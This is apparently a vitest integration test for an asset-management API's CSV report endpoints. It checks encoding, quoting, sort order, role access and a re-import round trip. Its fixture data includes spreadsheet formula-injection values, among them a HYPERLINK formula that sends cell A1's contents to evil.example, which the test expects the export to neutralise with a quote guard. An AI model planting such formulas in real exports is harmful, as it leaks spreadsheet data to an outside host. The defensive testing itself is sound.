/**
 * Reports through the HTTP API against a real PostgreSQL: the collection and distribution lists as the
 * bytes a spreadsheet gets (BOM, CRLF, RFC 4180 quoting, Japanese text, formula guard, sort order,
 * download headers), the planned-status counts, roles, and an exported list imported back unchanged.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as applicationsRepo from '../db/applicationsRepo';
import * as assetsRepo from '../db/assetsRepo';
import type { AssetInput } from '../db/types';
import { parseCsv } from '../api/csv';
import { startApi, TOKENS, type ApiHarness } from './support/apiHarness';
import { createTestDatabase, type TestDatabase } from './support/postgres';

let db: TestDatabase;
let api: ApiHarness;

const asset = (n: number, extra: Partial<AssetInput>): AssetInput => ({
  assetNumber: `A-${String(n).padStart(6, '0')}`,
  serialNumber: `SN-${n}`,
  model: 'iPhone 15',
  department: 'Sales',
  location: 'Tokyo',
  status: 'in_use',
  ...extra,
});

beforeAll(async () => {
  db = await createTestDatabase();
  // No Temporal: reports only read the database.
  api = await startApi({ db: db.pool, clock: () => new Date('2030-04-01T09:00:00Z') });
  const rows: AssetInput[] = [
    asset(1, {
      department: '営業部',
      location: '東京',
      plannedStatus: 'in_stock',
      userName: '山田 太郎',
      userEmail: 'taro@example.com',
      userPhone: '+81 3 1234 5678',
    }),
    asset(2, {
      department: 'Engineering',
      location: 'Osaka',
      plannedStatus: 'in_stock',
      userName: 'Smith, John "Jack"',
      userEmail: 'jack@example.com',
    }),
    asset(3, {
      department: 'Engineering',
      location: 'Kobe',
      plannedStatus: 'in_stock',
      userName: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    }),
    asset(4, {
      department: 'Accounting',
      location: 'Line 1\nLine 2',
      plannedStatus: 'in_stock',
      userName: '@SUM(1+1)',
      userPhone: '03-1234-5678',
    }),
    asset(5, { department: 'Sales', location: 'Tokyo', plannedStatus: 'in_use', userName: 'New User' }),
    asset(6, { department: 'Sales', location: 'Tokyo', status: 'in_stock', plannedStatus: 'in_stock' }), // already collected
    asset(7, { department: 'Sales', location: 'Tokyo', status: 'in_stock' }),
    asset(8, { department: 'HR', location: 'Nagoya', status: 'in_use', userName: 'Applicant' }),
  ];
  for (const a of rows) await assetsRepo.upsert(db.pool, a);
  // An application assigned by hand, with no process waiting for the delivery: not on the distribution list.
  const { application } = await applicationsRepo.create(db.pool, {
    department: 'HR',
    deliveryLocation: 'Nagoya',
    userName: 'Applicant',
    userEmail: 'applicant@example.com',
    createdBy: 'test',
  });
  await applicationsRepo.assign(db.pool, application.id, { assetNumber: 'A-000008', workflowId: 'device-A-000008' });
});
afterAll(async () => {
  await api?.close();
  await db?.drop();
});

async function download(path: string, token: string = TOKENS.viewer) {
  const res = await fetch(`${api.baseUrl}${path}`, { headers: { authorization: `Bearer ${token}` } });
  return { res, bytes: Buffer.from(await res.arrayBuffer()) };
}

describe('collection list', () => {
  it('is a UTF-8 CSV with a BOM, CRLF line ends and a download name', async () => {
    const { res, bytes } = await download('/api/v1/reports/collection-list.csv');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv; ?charset=utf-8/);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="collection-list-2030-04-01.csv"');
    expect(res.headers.get('cache-control')).toBe('no-store');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.toString('utf8');
    expect(text.startsWith('\uFEFFAsset #,Department,Location,User Name,E-mail,Phone\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    // Every line break outside a quoted field is CRLF.
    expect(text.replace(/"(?:[^"]|"")*"/g, '').match(/(?<!\r)\n/g)).toBeNull();
  });

  it('lists devices due for collection sorted by department then location, quoted and guarded', async () => {
    const { bytes } = await download('/api/v1/reports/collection-list.csv');
    const text = bytes.toString('utf8');
    const rows = parseCsv(text).map((r) => r.fields);
    expect(rows.slice(1)).toEqual([
      ['A-000004', 'Accounting', 'Line 1\nLine 2', "'@SUM(1+1)", '', '03-1234-5678'],
      ['A-000003', 'Engineering', 'Kobe', '\'=HYPERLINK("http://evil.example/?"&A1,"click")', '', ''],
      ['A-000002', 'Engineering', 'Osaka', 'Smith, John "Jack"', 'jack@example.com', ''],
      ['A-000001', '営業部', '東京', '山田 太郎', 'taro@example.com', "'+81 3 1234 5678"],
    ]);
    // The raw bytes quote exactly what needs it.
    expect(text).toContain('A-000002,Engineering,Osaka,"Smith, John ""Jack""",jack@example.com,\r\n');
    expect(text).toContain('A-000004,Accounting,"Line 1\nLine 2",\'@SUM(1+1),,03-1234-5678\r\n');
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(text).toContain("A-000001,営業部,東京,山田 太郎,taro@example.com,'+81 3 1234 5678\r\n");
  });

  it('can be edited in a spreadsheet and imported back: the guard comes off, nothing else changes', async () => {
    const { bytes } = await download('/api/v1/reports/collection-list.csv');
    const res = await api.call('POST', '/api/v1/assets/import', {
      token: TOKENS.admin,
      body: bytes.toString('utf8'),
      contentType: 'text/csv',
    });
    expect(res.status, JSON.stringify(res.body)).toBe(200);
    expect(res.body).toMatchObject({ rows: 4, unchanged: 4, created: 0, updated: 0 });
    expect((await assetsRepo.get(db.pool, 'A-000001'))?.userPhone).toBe('+81 3 1234 5678');
    expect((await assetsRepo.get(db.pool, 'A-000003'))?.userName).toBe(
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
    );
  });
});

describe('distribution list', () => {
  // Which devices are on it is driven by real processes in tests/apiDistributionList.test.ts: the devices a
  // process assigned and has not delivered (its open deliver-device task). A planned status or an assigned
  // application alone (A-000005, A-000008 here, written by hand) is not such a device.
  it('is a CSV download with the list columns; a planned status or an application alone lists nothing', async () => {
    const { res, bytes } = await download('/api/v1/reports/distribution-list.csv', TOKENS.field);
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe('attachment; filename="distribution-list-2030-04-01.csv"');
    const rows = parseCsv(bytes.toString('utf8')).map((r) => r.fields);
    expect(rows).toEqual([['Asset #', 'Department', 'Location', 'User Name', 'E-mail', 'Phone']]);
  });
});

describe('planned asset status', () => {
  it('counts devices by planned status, zeros and "none planned" included', async () => {
    const res = await api.call('GET', '/api/v1/reports/planned-asset-status', { token: TOKENS.viewer });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({
      generatedAt: '2030-04-01T09:00:00.000Z',
      total: 8,
      counts: [
        { plannedStatus: 'in_use', count: 1 },
        { plannedStatus: 'in_stock', count: 5 },
        { plannedStatus: 'retired', count: 0 },
        { plannedStatus: 'lost', count: 0 },
        { plannedStatus: 'in_repair', count: 0 },
        { plannedStatus: null, count: 2 },
      ],
    });
  });
});

describe('roles', () => {
  it('lets every role read the reports and nobody without a token', async () => {
    for (const path of [
      '/api/v1/reports/collection-list.csv',
      '/api/v1/reports/distribution-list.csv',
      '/api/v1/reports/planned-asset-status',
    ]) {
      for (const token of [TOKENS.admin, TOKENS.field, TOKENS.viewer]) {
        expect((await download(path, token)).res.status, `${path} ${token}`).toBe(200);
      }
      const anonymous = await api.call('GET', path);
      expect(anonymous.status).toBe(401);
      expect(anonymous.body.error.code).toBe('unauthorized');
    }
  });
});
